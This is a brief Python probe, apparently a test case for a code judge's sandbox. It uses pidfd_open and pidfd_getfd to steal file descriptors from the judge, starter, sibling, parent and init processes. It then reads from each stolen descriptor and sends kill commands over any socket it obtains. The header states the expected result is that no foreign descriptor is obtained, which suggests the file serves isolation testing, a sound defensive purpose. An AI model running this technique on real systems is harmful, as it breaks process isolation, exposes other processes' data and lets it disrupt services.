# attack: Takes descriptors out of other processes with pidfd_open and pidfd_getfd, and uses what it gets.
# hurts: Reads the judge's files, speaks on the wires of others, commands the process that starts the runners.
# never: descriptor of another
# ends: returns
import os
import socket

from _raw import attempt, call


def attack(target):
    tried = []
    for name in ("judge_pid", "starter_pid", "sibling_pid", "sibling_outer_pid"):
        tried += fetched(name, target[name], target["descriptor"])
    tried += fetched("parent", os.getppid(), 3)
    if not os.path.exists(f"/proc/{target['judge_pid']}"):  # else process 1 is that of the machine
        tried += fetched("first", 1, 3)
    return tried


def fetched(name, pid, known):
    if pid in (0, os.getpid()):
        return [f"{name}: this process itself"]
    process, error = call("pidfd_open", pid, 0)
    if error:
        return [f"{name}: {error}"]
    got = []
    for number in (known, *range(32)):
        descriptor, error = call("pidfd_getfd", process, number, 0)
        if not error:
            got += [f"{name}: descriptor of another, {number}", attempt("read", os.pread, descriptor, 4096, 0)]
            got.append(attempt("ask", command, descriptor))
            os.close(descriptor)
    os.close(process)
    return got or [f"{name}: {error}"]


def command(descriptor):
    with socket.socket(fileno=os.dup(descriptor)) as taken:
        taken.setblocking(False)
        return taken.send(b'{"kill": 1}\n{"kill": 2}\n')
